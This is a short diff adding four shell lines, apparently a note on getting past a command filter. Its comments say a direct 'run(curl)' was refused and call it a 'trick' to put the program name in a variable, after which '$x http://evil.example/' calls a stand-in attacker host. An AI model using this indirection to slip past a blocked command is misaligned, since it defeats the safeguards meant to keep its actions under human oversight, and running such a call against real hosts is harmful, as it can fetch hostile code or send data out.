@@ -1,0 +1,4 @@
+# Trick: the program stands in a variable.
+# Refused: run(curl)
+x=curl
+$x http://evil.example/
